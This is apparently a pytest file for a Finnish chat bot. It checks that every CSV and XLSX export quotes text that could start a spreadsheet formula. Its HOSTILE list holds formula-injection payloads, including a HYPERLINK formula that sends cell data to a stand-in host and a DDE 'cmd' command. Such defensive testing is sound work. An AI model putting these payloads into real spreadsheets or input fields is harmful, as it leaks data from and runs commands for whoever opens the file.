"""Formula injection (issue 11 item 5): every CSV and XLSX file the bot writes, with hostile
text in every text field, parsed back; no cell may start a formula, numbers stay numbers.

The writers are enumerated from the source (:func:`test_every_writer_is_known`), so a new
CSV or XLSX writer that is not listed here fails until it is covered.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import re
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.cli_report import report_from_cli
from bot.config import Settings
from content import Content, load_content
from handlers.domain.budget_outputs import Euro, Share, Sheet, to_csv, to_xlsx
from handlers.domain.spreadsheet_cells import csv_value, safe_text, set_text, xlsx_text
from storage import audit, memberships, users
from storage.db import Database
from tests.catalog_labels import shown
from tests.harness import Bot, Person
from tests.payloads import has_button, press_payload

ROOT = Path(__file__).resolve().parent.parent
NOW = dt.datetime(2026, 11, 24, 10, 0, tzinfo=dt.UTC)
LINK_FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Avaa")'
HOSTILE = (
    LINK_FORMULA,
    "+HYPERLINK(1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\uff1d1+1",
)
# A cell may start with one of these only as a number the bot wrote ("-500", "-1 234,50").
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"^-?\d[\d\u00a0 ]*(?:,\d+)?$")
# Each module that writes CSV or XLSX, and the test below that opens its files.
WRITERS = {
    "handlers/common/coordination.py": "the CSV of /raportti, /loki and an announcement's list",
    "handlers/domain/budget_outputs.py": "the budget's XLSX and CSV",
}


def dangerous(value: str) -> bool:
    return value.lstrip(" \n\u00a0").startswith(DANGEROUS) or value.startswith(("\t", "\r"))


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_safe_csv(content: bytes) -> list[list[str]]:
    rows = csv_cells(content)
    for row in rows:
        for cell in row:
            assert not dangerous(cell) or NUMBER.match(cell), (cell, row)
    return rows


def assert_safe_xlsx(content: bytes) -> list[tuple[object, ...]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    values: list[tuple[object, ...]] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not dangerous(cell.value), (sheet.title, cell.coordinate)
            values.append(tuple(cell.value for cell in row))
    return values


def quoted(text: str) -> str:
    return "'" + text


# --- the helper --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_start_a_formula_gets_a_quote(text: str) -> None:
    assert safe_text(text) == quoted(text)
    assert csv_value(text) == quoted(text)


@pytest.mark.parametrize("text", ["Projektipäällikkö", "'=already quoted", "1 234", "a=b", ""])
def test_other_text_is_left_alone(text: str) -> None:
    assert safe_text(text) == text


def test_numbers_stay_numbers_in_a_csv_row() -> None:
    assert csv_value(-500) == -500
    assert csv_value(Decimal("-1234.50")) == "-1234,50"
    assert csv_value(None) == ""
    assert csv_value(True) == "True"


@given(st.text())
def test_no_text_comes_out_dangerous(text: str) -> None:
    assert not dangerous(safe_text(text))
    assert not dangerous(xlsx_text(text))
    assert safe_text(text).removeprefix("'") in (text, text.removeprefix("'"))


def test_an_xlsx_text_cell_is_a_string_cell() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row, text in enumerate([*HOSTILE, "\x01=1+1", "x\x00y"], start=1):
        set_text(sheet.cell(row=row, column=1), text)
    buffer = io.BytesIO()
    workbook.save(buffer)
    values = [row[0] for row in assert_safe_xlsx(buffer.getvalue())]
    assert values[0] == quoted(LINK_FORMULA)
    assert values[-2:] == ["'=1+1", "xy"]


# --- the budget files --------------------------------------------------------------------


def hostile_sheets() -> list[Sheet]:
    rows: list[tuple[str | int | Decimal | Euro | Share | None, ...]] = [
        ("Tehtävä", "Palkka", "Osuus"),
        *((text, Euro(Decimal(-500)), Share(Decimal("-12.5"))) for text in HOSTILE),
        (LINK_FORMULA, -3, Decimal("-1.25")),
        (None, Euro(Decimal("-1234.50"), cents=True), None),
    ]
    return [Sheet(LINK_FORMULA, tuple(rows)), Sheet("=2+2", (("@x",),))]


def test_budget_xlsx_keeps_text_as_text_and_numbers_as_numbers() -> None:
    values = assert_safe_xlsx(to_xlsx(hostile_sheets()))
    texts = [value for row in values for value in row if isinstance(value, str)]
    assert quoted(LINK_FORMULA) in texts and "'@x" in texts
    numbers = [row[1] for row in values[1 : len(HOSTILE) + 1]]
    assert numbers == [-500] * len(HOSTILE)  # a negative amount is a number cell
    assert values[len(HOSTILE) + 1][1:] == (-3, Decimal("-1.25"))


def test_budget_csv_keeps_text_as_text_and_numbers_as_numbers() -> None:
    rows = assert_safe_csv(to_csv(hostile_sheets()))
    assert rows[0] == [quoted(LINK_FORMULA)]
    assert [quoted(LINK_FORMULA), "-500", "-12,50"] in rows
    assert [quoted(LINK_FORMULA), "-3", "-1,25"] in rows
    assert ["", "-1234,50", ""] in rows
    assert ["'=2+2"] in rows and ["'@x"] in rows


# --- files from chat and the CLI, with hostile data in the database -----------------------


@pytest.fixture(scope="module")
def content() -> Content:
    return load_content()


@pytest.fixture
async def bot(db: Database, content: Content) -> AsyncIterator[Bot]:
    async with Bot(db, content=content, clock=lambda: NOW, admins=frozenset({"test:99"})) as b:
        yield b


async def hostile_people(db: Database, project: str = "osmari") -> list[str]:
    """Participants whose app names are hostile, all unreachable (an announcement's list)."""
    ids = []
    async with db.transaction() as conn:
        for number, name in enumerate(HOSTILE, start=200):
            user_id = f"test:{number}"
            await users.touch(conn, user_id, user_id, locale="fi", now=NOW, private_chat=True)
            await users.set_display_name(conn, user_id, name)
            await users.mark_unreachable(conn, user_id)
            await memberships.add(conn, user_id, project, "participant", NOW)
            ids.append(user_id)
    return ids


async def coordinator(bot: Bot, number: int = 1, project: str = "osmari") -> Person:
    person = bot.person(number)
    await person.says("/start")
    async with bot.db.transaction() as conn:
        await memberships.add(conn, person.user_id, project, "coordinator", NOW)
        await users.set_display_name(conn, person.user_id, LINK_FORMULA)
    person.new_messages()
    return person


async def test_did_not_receive_csv_quotes_hostile_names(bot: Bot) -> None:
    people = await hostile_people(bot.db)
    staff = await coordinator(bot)
    await staff.says("/tiedote")
    await press_payload(bot.db, staff, "bca:project")
    await staff.says("Tervetuloa")
    await press_payload(bot.db, staff, "bc:now")
    [file] = await press_payload(bot.db, staff, "bcx:missing:")
    assert file.document is not None
    rows = assert_safe_csv(file.document[1])
    names = {row[0]: row[1] for row in rows[1:]}
    assert names[people[0]] == quoted(LINK_FORMULA)
    assert {names[user_id] for user_id in people} == {quoted(text) for text in HOSTILE}


async def test_audit_csv_quotes_hostile_text(bot: Bot) -> None:
    admin = bot.person(99)
    await admin.says("/start")
    async with bot.db.transaction() as conn:
        for text in HOSTILE:
            await audit.record(
                conn, actor=text, action=text, now=NOW, project=text, subject=text, detail={}
            )
        await audit.record(conn, actor="x", action="x", now=NOW, detail={"=x": LINK_FORMULA})
    admin.new_messages()
    [file] = await admin.says("/loki csv")
    assert file.document is not None
    rows = assert_safe_csv(file.document[1])
    assert [quoted(LINK_FORMULA)] * 4 in [row[1:5] for row in rows]
    assert f"'=x={LINK_FORMULA}" in [row[5] for row in rows]


async def test_report_csv_in_chat_and_on_the_cli_is_safe(
    bot: Bot, db: Database, tmp_path: Path
) -> None:
    await hostile_people(db)
    staff = await coordinator(bot)
    [file] = await staff.says("/raportti osmari csv")
    assert file.document is not None
    chat_rows = assert_safe_csv(file.document[1])
    assert chat_rows[0] == [
        shown(f"csv.report.{c}") for c in ("section", "metric", "value", "target")
    ]
    settings = Settings(database=db.path, _env_file=None)
    target = tmp_path / "r.csv"
    args = argparse.Namespace(project="osmari", csv=target, lang="fi")
    assert await report_from_cli(settings, args, io.StringIO(), io.StringIO(), now=NOW) == 0
    assert assert_safe_csv(target.read_bytes()) == chat_rows


async def test_budget_files_from_chat_quote_a_hostile_line_title(bot: Bot) -> None:
    person = bot.person(5)
    await person.says("/start")
    await press_payload(bot.db, person, "go:budget")
    await press_payload(bot.db, person, "b:model:")
    await press_payload(bot.db, person, "b:mode:lines")
    await person.says(LINK_FORMULA)
    if await has_button(bot.db, person, "b:side:"):
        await press_payload(bot.db, person, "b:side:")
    await press_payload(bot.db, person, "b:pay:monthly")
    await person.says("3300")
    await person.says("100")
    await person.says("24")
    await press_payload(bot.db, person, "b:lines:done")
    await person.says("0")
    await press_payload(bot.db, person, "b:app:")
    await press_payload(bot.db, person, "b:eu:max")
    await press_payload(bot.db, person, "b:rows:done")
    await press_payload(bot.db, person, "b:own:rest")
    if await has_button(bot.db, person, "b:split:no"):
        await press_payload(bot.db, person, "b:split:no")
    [xlsx] = await press_payload(bot.db, person, "b:sum:xlsx")
    [csv_file] = await press_payload(bot.db, person, "b:sum:csv")
    assert xlsx.document is not None and csv_file.document is not None
    texts = [v for row in assert_safe_xlsx(xlsx.document[1]) for v in row if isinstance(v, str)]
    assert quoted(LINK_FORMULA) in texts
    cells = [cell for row in assert_safe_csv(csv_file.document[1]) for cell in row]
    assert quoted(LINK_FORMULA) in cells


# --- every writer is one of the above ------------------------------------------------------


def test_every_writer_is_known() -> None:
    """Each module that writes CSV or XLSX uses the helper and is tested in this file."""
    pattern = re.compile(r"csv\.writer\(|DictWriter\(|Workbook\(|xlsxwriter|to_excel\(")
    found = set()
    for package in ("bot", "handlers", "storage"):
        for path in (ROOT / package).rglob("*.py"):
            if pattern.search(path.read_text(encoding="utf-8")):
                found.add(path.relative_to(ROOT).as_posix())
    assert found == set(WRITERS)
    for module in found:
        assert "spreadsheet_cells" in (ROOT / module).read_text(encoding="utf-8"), module
